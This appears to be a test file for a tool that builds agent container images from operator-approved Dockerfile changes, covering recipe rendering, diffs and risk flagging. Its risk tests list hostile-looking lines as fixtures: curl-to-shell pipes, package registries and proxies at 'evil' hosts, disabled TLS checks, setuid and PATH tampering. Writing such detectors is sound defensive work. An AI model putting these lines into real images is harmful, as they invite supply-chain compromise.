import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, it } from "node:test";
import {
  agentImageOf,
  baseRecipe,
  hashOf,
  rebuildPending,
  renderRecipe,
  viewImageChange,
  withLayer,
  withoutLayers,
} from "../../src/core/image/bottle-recipe.js";
import { parseDockerfile } from "../../src/core/image/dockerfile-syntax.js";
import { imageRisks } from "../../src/core/image/image-risk.js";
import { readRecipe, writeRecipe } from "../../src/core/image/recipe-store.js";
import { unifiedDiff } from "../../src/core/image/unified-diff.js";

const JQ = "RUN apt-get update && apt-get install -y --no-install-recommends jq";
const base = baseRecipe(
  "bot-bottle/agent-shell:0123456789ab",
  "images/agent-shell/Dockerfile",
  "FROM x\n",
);
const layer = (dockerfile: string, id = "r-aaaaaa") => ({
  request_id: id,
  dockerfile,
  approved_at: "2026-12-03T10:00:00.000Z",
});

describe("the per-bottle recipe", () => {
  it("writes FROM, root for the changes, then the bottle's user and workspace again", () => {
    const text = renderRecipe(withLayer(base, layer("USER nobody\nRUN id")));
    const instructions = parseDockerfile(text).instructions.map((i) => `${i.keyword} ${i.args}`);
    assert.deepEqual(instructions, [
      "FROM bot-bottle/agent-shell:0123456789ab",
      "USER root",
      "USER nobody",
      "RUN id",
      "USER 1500:1500",
      "WORKDIR /workspace",
    ]);
  });

  it("names the image by content: the same recipe in two bottles is one tag", () => {
    const a = withLayer(base, layer(JQ, "r-aaaaaa"));
    const b = withLayer(base, layer(`${JQ}\n`, "r-bbbbbb"));
    assert.equal(agentImageOf(a).tag, agentImageOf(b).tag);
    assert.match(agentImageOf(a).tag, /^bot-bottle\/agent-layered:[0-9a-f]{16}$/);
    assert.equal(agentImageOf(base).tag, base.base.tag);
    assert.notEqual(hashOf(a), hashOf(withLayer(base, layer("RUN true"))));
  });

  it("approving the same change twice adds nothing and builds nothing", () => {
    const once = withLayer(base, layer(JQ, "r-aaaaaa"));
    const twice = withLayer(once, layer(JQ, "r-bbbbbb"));
    assert.equal(twice, once);
    assert.equal(viewImageChange(once, layer(JQ, "r-bbbbbb")).alreadyThere, true);
  });

  it("waits for a rebuild until the agent started on the recipe", () => {
    assert.equal(rebuildPending(base), false);
    const next = withLayer(base, layer(JQ));
    assert.equal(rebuildPending(next), true);
    assert.equal(rebuildPending({ ...next, started_hash: hashOf(next) }), false);
    const back = withoutLayers({ ...next, started_hash: null }, ["r-aaaaaa"]);
    assert.equal(rebuildPending(back), false);
  });

  it("refuses a change again when approved (the request file is never trusted)", () => {
    assert.throws(() => withLayer(base, layer("FROM evil")), /FROM is refused/);
  });

  it("keeps its files in state/<identity>/image and refuses a malformed one", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "recipe-"));
    assert.equal(readRecipe(dir), undefined);
    const recipe = withLayer(base, layer(JQ));
    writeRecipe(dir, recipe);
    assert.deepEqual(readRecipe(dir), recipe);
    assert.equal(
      fs.readFileSync(path.join(dir, "image", "Dockerfile"), "utf8"),
      renderRecipe(recipe),
    );
    fs.writeFileSync(path.join(dir, "image", "recipe.json"), '{"version":1}');
    assert.throws(() => readRecipe(dir), /malformed/);
  });
});

describe("the change as the operator sees it", () => {
  it("is a unified diff of the current recipe and the recipe with the change", () => {
    const view = viewImageChange(withLayer(base, layer("RUN true", "r-000001")), layer(JQ));
    assert.equal(
      view.diff,
      [
        "--- current recipe",
        "+++ with this change",
        "@@ -6,6 +6,9 @@",
        " # change 1",
        " RUN true",
        " ",
        "+# change 2",
        `+${JQ}`,
        "+",
        " # end of the approved changes",
        " USER 1500:1500",
        " WORKDIR /workspace",
        "",
      ].join("\n"),
    );
    assert.notEqual(view.currentHash, view.proposedHash);
  });

  it("diffs with separate hunks, removals and empty texts", () => {
    const before = "a\nb\nc\nd\ne\nf\ng\nh\ni\nj\n";
    const after = "a\nB\nc\nd\ne\nf\ng\nh\ni\nj\nk\n";
    assert.equal(
      unifiedDiff(before, after, "x", "y", 1),
      "--- x\n+++ y\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n@@ -10 +10,2 @@\n j\n+k\n",
    );
    assert.equal(unifiedDiff("", "a\n", "x", "y"), "--- x\n+++ y\n@@ -0,0 +1 @@\n+a\n");
    assert.equal(unifiedDiff("same\n", "same\n", "x", "y"), "");
  });
});

describe("risk flags", () => {
  const codes = (dockerfile: string) => imageRisks(dockerfile).map((r) => r.code);

  it("flags nothing in a plain install", () => {
    assert.deepEqual(codes(JQ), []);
    assert.deepEqual(
      codes("RUN curl -fsSLo /tmp/x https://example.com/x && sha256sum -c x.sha"),
      [],
    );
  });

  it("flags a download piped to a shell, in every spelling", () => {
    for (const text of [
      "RUN curl -fsSL https://x.sh | sh",
      "RUN wget -qO- https://x | sudo bash -s --",
      "RUN curl https://x | /bin/bash",
      'RUN sh -c "$(curl -fsSL https://x)"',
      "RUN bash <(curl -s https://x)",
      "RUN curl https://x | python3 -",
      "RUN curl \\\n  https://x \\\n  | sh",
    ])
      assert.deepEqual(codes(text), ["pipe-to-shell"], text);
  });

  it("flags new package sources: apt, keys, npm registry, pip index", () => {
    for (const text of [
      "RUN echo 'deb http://x stable main' > /etc/apt/sources.list.d/x.list",
      "RUN curl -o /usr/share/keyrings/x.gpg https://x/key",
      "RUN apt-key add /tmp/key",
      "RUN add-apt-repository ppa:x/y",
      "RUN npm config set registry https://npm.evil",
      "RUN npm install --registry=https://npm.evil left-pad",
      "RUN pip install --index-url https://pypi.evil/simple x",
      "RUN pip install --extra-index-url https://pypi.evil/simple x",
      "RUN pip install -i https://pypi.evil/simple x",
    ])
      assert.ok(codes(text).includes("package-source"), text);
    assert.deepEqual(codes("ENV NPM_CONFIG_REGISTRY=https://npm.evil"), ["proxy-or-ca-env"]);
  });

  it("flags setuid bits, user changes, proxy and CA variables, TLS verification off, PATH", () => {
    assert.deepEqual(codes("RUN chmod u+s /usr/bin/x"), ["setuid"]);
    assert.deepEqual(codes("RUN chmod 4755 /usr/bin/x"), ["setuid"]);
    assert.deepEqual(codes("RUN chmod +s /usr/bin/x"), ["setuid"]);
    assert.deepEqual(codes("RUN chmod 755 /usr/bin/x"), []);
    assert.deepEqual(codes("USER nobody\nRUN id\nUSER agent"), ["user-change", "user-change"]);
    assert.deepEqual(codes("ENV HTTPS_PROXY=http://evil:8080"), ["proxy-or-ca-env"]);
    assert.deepEqual(codes("ENV http_proxy http://evil:8080"), ["proxy-or-ca-env"]);
    assert.deepEqual(codes("ENV SSL_CERT_FILE=/x NODE_EXTRA_CA_CERTS=/y"), ["proxy-or-ca-env"]);
    assert.deepEqual(codes("ENV NODE_TLS_REJECT_UNAUTHORIZED=0"), ["tls-verification-off"]);
    assert.ok(codes("RUN curl -k https://x -o y").includes("tls-verification-off"));
    assert.ok(
      codes("RUN git config --global http.sslVerify false").includes("tls-verification-off"),
    );
    assert.deepEqual(codes("ENV PATH=/evil:$PATH"), ["path-change"]);
    assert.ok(
      codes("RUN cp x.crt /usr/local/share/ca-certificates/ && update-ca-certificates").includes(
        "proxy-or-ca-env",
      ),
    );
  });

  it("names the line of each flag", () => {
    assert.deepEqual(
      imageRisks("RUN true\n\nRUN curl x | sh").map((r) => r.line),
      [3],
    );
  });
});

describe("what waits for a rebuild", () => {
  it("is every change after the prefix the agent started on", async () => {
    const { unbuiltLayers } = await import("../../src/backend/docker/bottle-image.js");
    const one = withLayer(base, layer("RUN true", "r-000001"));
    const two = withLayer(one, layer(JQ, "r-000002"));
    assert.deepEqual(unbuiltLayers({ ...two, started_hash: null }), ["r-000001", "r-000002"]);
    assert.deepEqual(unbuiltLayers({ ...two, started_hash: hashOf(one) }), ["r-000002"]);
    assert.deepEqual(unbuiltLayers({ ...two, started_hash: hashOf(two) }), []);
  });

  it("shows in bottle list", async () => {
    const { renderList } = await import("../../src/cli/commands/bottles.js");
    const row = {
      identity: "sh-abc123",
      agent: "sh",
      status: "running",
      health: "healthy" as const,
      started_at: null,
      runtime: "runsc",
    };
    const text = renderList(
      [
        { ...row, rebuild_pending: true },
        { ...row, identity: "sh-def456", rebuild_pending: false },
      ],
      0,
    );
    assert.match(text, /^sh-abc123\s+sh\s+running, rebuild pending\s+healthy/m);
    assert.match(text, /^sh-def456\s+sh\s+running\s+healthy/m);
  });
});
